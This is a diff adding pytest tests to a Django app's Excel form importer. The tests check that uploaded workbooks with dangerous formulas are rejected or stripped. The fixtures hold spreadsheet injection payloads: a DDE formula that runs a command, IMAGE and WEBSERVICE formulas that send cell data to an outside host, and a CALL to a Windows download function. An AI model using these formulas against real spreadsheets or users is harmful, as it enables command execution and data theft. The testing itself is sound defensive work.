@@ -8,7 +8,10 @@ from typing import Any
 import openpyxl
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from openpyxl.formatting.rule import FormulaRule
 from openpyxl.styles import Font
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 
 from lifang.blocks.forms.making import newest
 from lifang.blocks.forms.models import Form
@@ -191,6 +194,37 @@ def _hostile(name: str) -> bytes:
         "fetching": [["姓名", "出生日期"], ["=cmd|'/c calc'!A0", None]], "empty": [[]], "nonsense": [["甲", "乙"]],
     }.get(name, [])  # fmt: skip
     return b"PK\x03\x04 no zip at all" if name == "broken" else a_book(rows)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=IMAGE("https://x.cn/?q="&C3)', '=_xlfn.WEBSERVICE("https://x.cn/"&C3)', '=IMPORTXML("https://x.cn","//a")',
+        '=RTD("x",,C3)', '=CALL("urlmon","URLDownloadToFileA")', "='[1]别处'!A1", "=cmd|'/c calc'!A0", "=那个名字", "=E3:INDEX(A:A,1)",
+        "=没有的表!A1",
+    ],
+)  # fmt: skip
+def test_a_formula_that_does_more_than_reckon_is_refused_with_its_cell(officer: User, formula: str) -> None:
+    rows = [["人口表"], ["社区", "总人口", "男", "女", "备注"], [None, None, None, None, formula]]
+    answer = sends_in(officer, a_book(rows))
+    assert answer.status_code == 422
+    assert "E3 格的公式不能用" in answer.content.decode()
+
+
+def test_formulas_that_reckon_stay_and_what_watches_cells_goes(officer: User) -> None:
+    kept = ["=SUM(C3:C4)", "=IF(B5>0,ROUND(-$C$5/'表 一'!B5*100%,1),\"无\")", '=COUNTIF(\'表 一\'!C:C,">0")&"个"']
+    rows = [["人口表"], ["社区", "总人口", "男", "女", "备注"], [], [], ["合计", *kept]]
+    book = openpyxl.load_workbook(io.BytesIO(a_book(rows, name="表 一")))
+    page = book.active
+    page.conditional_formatting.add("A3:A9", FormulaRule(['IMAGE("https://x.cn/?q="&A3)'], font=Font(bold=True)))
+    page.add_data_validation(DataValidation("custom", formula1='=WEBSERVICE("https://x.cn/"&A3)', sqref="A3"))
+    book.defined_names["far"] = DefinedName("far", attr_text='WEBSERVICE("https://x.cn/")')
+    form, _sheet = the_form(sends_in(officer, saved(book)))
+    out = openpyxl.load_workbook(io.BytesIO(browser(officer).get(f"/desk/forms/{form.pk}/layout/").content))
+    assert [cell.value for cell in out.active[5][1:4]] == kept
+    assert not list(out.active.conditional_formatting)
+    assert not out.active.data_validations.dataValidation
+    assert not out.defined_names
 
 
 def test_columns_are_bound_otherwise_in_a_new_version_and_a_bad_sum_keeps_what_was_typed(officer: User) -> None:
